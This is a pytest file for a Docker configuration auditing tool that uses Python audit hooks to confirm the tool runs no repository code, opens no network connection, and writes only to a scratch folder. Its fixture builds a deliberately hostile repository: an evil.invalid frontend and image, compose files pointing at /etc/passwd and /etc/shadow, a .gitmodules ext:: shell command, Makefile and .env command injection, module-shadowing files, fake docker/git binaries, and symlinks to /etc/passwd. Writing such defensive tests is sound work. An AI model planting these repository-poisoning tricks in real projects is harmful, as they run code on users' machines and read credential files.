"""Reading runs nothing of the repository, opens no socket, writes nothing, and looks at nothing outside.

An audit hook (PEP 578) sees what a whole run of each command does; the only program it starts is git, with arguments
of ours and a `.git` that holds none of the repository's configuration.
"""

import json
import os
import shutil
import subprocess
import sys
import sysconfig
from pathlib import Path

import pytest

from tests.conftest import ROOT
from tests.hostile.files import write
from tests.trees.repositories import commit, git
from tests.trees.test_hostile import planted

LAUNCHER = """
import json, os, sys
log = os.open(os.environ.pop("SEEN"), os.O_WRONLY | os.O_APPEND)  # a file: what a child does is seen too

class seen:
    @staticmethod
    def append(what):
        os.write(log, (json.dumps(what) + "\\n").encode())

def hook(event, arguments):
    if event.startswith(("socket.", "ctypes.", "ftplib.", "http.", "urllib.", "smtplib.")):
        seen.append([event, repr(arguments)])
    elif event == "os.fork":
        seen.append([event, sys._getframe(1).f_globals["__name__"]])
    elif event in ("os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.forkpty", "os.startfile", "pty.spawn"):
        seen.append([event, repr(arguments)])
    elif event == "subprocess.Popen":
        seen.append([event, [os.fsdecode(part) for part in arguments[1]]])
    elif event in ("os.remove", "os.rename", "os.chmod", "os.chown", "os.truncate", "os.link", "os.symlink", "os.mkdir", "os.rmdir"):
        path = os.fsdecode(arguments[1] if event in ("os.symlink", "os.link", "os.rename") else arguments[0])
        below = arguments[-1] if event in ("os.remove", "os.rmdir") and arguments[-1] != -1 else None
        base = os.readlink(f"/proc/self/fd/{below}") if below is not None else os.getcwd()
        seen.append(["change", os.path.join(base, path)])
    elif event == "open" and isinstance(arguments[0], (str, bytes, os.PathLike)):
        mode, flags = arguments[1], arguments[2]
        writes = (mode and set(mode) & set("wax+")) or flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC)
        path = os.path.abspath(os.fsdecode(arguments[0]))
        seen.append(["write" if writes else "read", path])
    elif event == "import":
        seen.append(["import", str(arguments[1])])

sys.addaudithook(hook)
sys.argv = ["dockwright", *sys.argv[1:]]
from dockwright.__main__ import main
main()
"""
COMMANDS = (
    ("audit", "."), ("audit", ".", "--format", "json"), ("audit", ".", "--format", "markdown", "--output", "{scratch}/out.md"),
    ("check", "."), ("check", "Dockerfile"), ("check", "compose.yaml"), ("explain", "Dockerfile:1"), ("explain", "moving-tag"),
    ("cache-advice", "Dockerfile"), ("trend", "--help"), ("ledger", "show"),
)  # fmt: skip
FIRST = ("-c", "--no-pager", "-C")
PLUMBING = {"ls-files", "ls-tree", "rev-parse", "log", "cat-file"}


def watched(folder: Path, scratch: Path, *arguments: str) -> list[list]:
    log = scratch.with_name("seen")
    log.write_bytes(b"")
    done = subprocess.run(
        [sys.executable, "-P", "-c", LAUNCHER, *(part.format(scratch=scratch) for part in arguments)],
        cwd=folder, capture_output=True, timeout=60, check=False,
        env={**os.environ, "TMPDIR": str(scratch), "SEEN": str(log)},
    )  # fmt: skip
    assert done.returncode in (0, 1), done.stderr
    seen = [json.loads(line) for line in log.read_text().splitlines()]
    assert any(event == "import" for event, _ in seen)
    return seen


def python_folders() -> tuple[str, ...]:
    paths = {*sysconfig.get_paths().values(), sys.prefix, sys.base_prefix, str(ROOT / "src"), *sys.path}
    return tuple(f"{os.path.realpath(path)}{os.sep}" for path in paths if path) + tuple(
        f"{path}{os.sep}" for path in paths if path
    )


def judge(folder: Path, scratch: Path, seen: list[list]) -> None:
    assert {event for event, _ in seen} >= {"read", "import"}
    own = python_folders()
    for event, what in seen:
        if event == "subprocess.Popen":
            assert what[0] == shutil.which("git"), what
            assert what[1] == "--no-pager", what
            command = next(part for part in what[2:] if part in PLUMBING)
            assert "core.fsmonitor=false" in what[: what.index(command)], what
            assert "protocol.allow=never" in what[: what.index(command)], what
            assert not {"--textconv", "--ext-diff", "--filters", "--recurse-submodules"} & set(what), what
        elif event in ("write", "change"):
            assert what == str(scratch) or what.startswith(f"{scratch}/") or what == os.devnull, (event, what)
        elif event == "read":
            inside = what.startswith((f"{folder}{os.sep}", f"{scratch}{os.sep}", *own)) or what == str(folder)
            relative = not os.path.lexists(
                what
            )  # opened below a folder's descriptor: the hook sees only a name
            above = Path(what).parent in folder.parents  # `.git` and configuration are looked for upwards
            assert (
                inside
                or relative
                or above
                or what in (os.devnull, "/proc/self/maps")
                or what.startswith("/etc/")
            ), what
            assert what not in ("/etc/passwd", "/etc/shadow"), what
        elif event == "os.fork":
            assert what == "dockwright.audit.beside", what  # a second reader of the same bytes
        elif event == "import":
            assert not what.startswith(f"{folder}{os.sep}"), what
        else:
            pytest.fail(f"{event} {what}")


@pytest.mark.slow
@pytest.mark.parametrize("arguments", COMMANDS, ids=" ".join)
def test_the_example(tmp_path: Path, arguments: tuple[str, ...]) -> None:
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    folder = tmp_path / "sprawl"
    shutil.copytree(ROOT / "examples" / "sprawl", folder)
    names = sorted(path.relative_to(folder).as_posix() for path in folder.rglob("*Dockerfile*"))
    composes = sorted(path.relative_to(folder).as_posix() for path in folder.rglob("*compose*.y*ml"))
    git(folder, "init", "-q")
    commit(folder, "first")
    places = {"Dockerfile": names[0], "compose.yaml": composes[0], "Dockerfile:1": f"{names[0]}:1"}
    judge(folder, scratch, watched(folder, scratch, *(places.get(part, part) for part in arguments)))


POISON = b"import os\nopen(os.path.join(%r, __name__.replace('.', '_') + str(os.getpid())), 'w')\n"
NAMES = ("yaml", "click", "msgspec", "sitecustomize", "usercustomize", "tree_sitter", "tree_sitter_bash", "rich", "json", "tomllib",
         "ast", "subprocess", "tempfile", "difflib", "fnmatch", "datetime", "_bootlocale", "encodings")  # fmt: skip


def poisoned(tmp_path: Path) -> tuple[Path, Path]:
    """A repository with everything that anybody's tools start, import or ask, each leaving a mark."""
    top, marks = planted(tmp_path)
    program = (tmp_path / "program.sh").read_bytes()
    code = POISON % str(marks)
    write(top, {f"{name}.py": code for name in NAMES})
    write(
        top,
        {
            "Dockerfile": b"# syntax=evil.invalid/frontend\nFROM evil.invalid/image\nADD http://evil.invalid/x /\nCOPY link /\n",
            "compose.yaml": b"include: [http://evil.invalid/c.yaml, /etc/passwd]\nservices:\n  a: {build: 'https://evil.invalid/r.git', "
            b"extends: {file: /etc/passwd, service: b}, env_file: /etc/shadow}\n",
            "docker-bake.hcl": b'target "a" { context = "https://evil.invalid/r.git" dockerfile = "/etc/passwd" }\n',
            "run.py": code + b"import subprocess\nsubprocess.run(['docker', 'build', '.'])\n",
            "Makefile": b"X := $(shell touch " + str(marks).encode() + b"/make)\nbuild:\n\tdocker build .\n",
            "docker": program, "git": program, "python": program, "pyproject.toml": b"", ".env": b"A=$(touch x)\n",
            ".gitmodules": b'[submodule "a"]\n\tpath = a\n\turl = ext::sh -c touch% /tmp/x\n\tupdate = !touch x\n',
        },
    )  # fmt: skip
    for name in ("docker", "git", "python"):
        (top / name).chmod(0o755)
    (top / "link").symlink_to("/etc/passwd")
    (top / "a.Dockerfile").symlink_to("/etc/passwd")
    (top / "itself.Dockerfile").symlink_to("itself.Dockerfile")
    return top, marks


@pytest.mark.slow
def test_a_hostile_repository(tmp_path: Path) -> None:
    top, marks = poisoned(tmp_path)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    for arguments in (*COMMANDS[1:5], ("audit", ".", "--at", "HEAD")):
        judge(top, scratch, watched(top, scratch, *arguments))
    assert list(marks.iterdir()) == []
    assert [path.name for path in scratch.iterdir()] == ["out.md"]


@pytest.mark.slow
@pytest.mark.parametrize(
    "start",
    [
        ["-m", "dockwright"],
        ["-c", "import sys; sys.path[:1] = []; from dockwright.__main__ import main; main()"],
    ],
)
def test_no_module_of_the_repository_is_imported(tmp_path: Path, start: list[str]) -> None:
    top, marks = poisoned(tmp_path)
    for arguments in (
        ("audit", ".", "--format", "json"),
        ("check", "Dockerfile"),
        ("check", ".", "--format", "github"),
    ):
        done = subprocess.run(
            [sys.executable, *start, *arguments], cwd=top, capture_output=True, timeout=60, check=False,
            env={**os.environ, "PATH": f".{os.pathsep}{os.environ['PATH']}"},
        )  # fmt: skip
        assert done.returncode in (0, 1), done.stderr
    assert list(marks.iterdir()) == []


@pytest.mark.slow
def test_links_out_and_round_are_told(tmp_path: Path) -> None:
    top, _ = poisoned(tmp_path)
    from tests.hostile.process import audited, calm, dockwright

    ran = audited(top)
    told = ran.skipped()
    assert "link" in told["a.Dockerfile"]
    assert "link" in told["itself.Dockerfile"]
    assert b"root:x:" not in ran.out
    for name in ("a.Dockerfile", "itself.Dockerfile"):
        ran = calm(dockwright(top, "check", name), {2})
        assert "link" in ran.said


@pytest.mark.slow
@pytest.mark.parametrize("start", [["-P", "-m", "dockwright"], [], ["-m", "dockwright"]])
def test_a_repository_with_a_package_of_our_name(tmp_path: Path, start: list[str]) -> None:
    """Safe by the command and by `-P`, as README says; plain `-m` is Python's own and starts the repository's."""
    marks = tmp_path / "marks"
    marks.mkdir()
    package = b"%s" % f"open({str(marks / 'ran')!r}, 'w')\n".encode()
    top = write(
        tmp_path / "r",
        {"dockwright/__init__.py": package, "dockwright/__main__.py": b"", "Dockerfile": b"FROM a\n"},
    )
    program = tmp_path / "dockwright"  # what an installer makes of the entry point
    program.write_text("from dockwright.__main__ import main\nmain()\n")
    env = {name: value for name, value in os.environ.items() if name != "PYTHONSAFEPATH"}
    done = subprocess.run(
        [sys.executable, *(start or [str(program)]), "check", "Dockerfile"],
        cwd=top, capture_output=True, timeout=60, check=False, env=env,
    )  # fmt: skip
    if start == ["-m", "dockwright"]:
        assert [mark.name for mark in marks.iterdir()] == ["ran"]  # should Python change, README may say less
    else:
        assert done.returncode in (0, 1), done.stderr
        assert list(marks.iterdir()) == []
